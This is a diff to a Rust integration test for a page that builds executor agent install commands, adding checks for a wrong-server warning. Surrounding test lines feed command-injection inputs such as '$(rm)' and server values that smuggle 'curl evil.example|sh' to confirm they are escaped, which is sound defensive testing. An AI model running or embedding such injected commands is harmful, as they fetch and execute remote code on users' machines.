@@ -197,6 +197,12 @@ async fn the_fleet_shows_servers_and_switches_apps() {
     assert_eq!(visitor.get("/executors/none").await.status, 404);
     let text = visitor.get("/executors/new?app=billing&server=https://r.example").await.text();
     assert!(text.contains("--server https://r.example") && text.contains("executor:default/billing"), "{text}");
+    assert!(text.contains("connect to https://r.example, which is not this server (http://"), "{text}");
+    let text = visitor.get("/executors/new?app=billing").await.text();
+    assert!(!text.contains("id=\"other-server\""), "{text}");
+    let own = text.split("agent --server ").nth(1).and_then(|rest| rest.split(' ').next()).unwrap();
+    let text = visitor.get(&format!("/executors/new?app=billing&server={own}/")).await.text();
+    assert!(!text.contains("id=\"other-server\""), "the server's own address needs no warning: {text}");
     let answer = visitor.get("/executors/new?app=$(rm)&server=%3Cb%3E").await.text();
     assert!(!answer.contains("--app $(rm)") && !answer.contains("<b>'"), "{answer}");
     for server in ["http://a%0Acurl+evil.example%7Csh%0A", "http://$(curl+evil.example%7Csh)", "a;curl+evil.example"] {
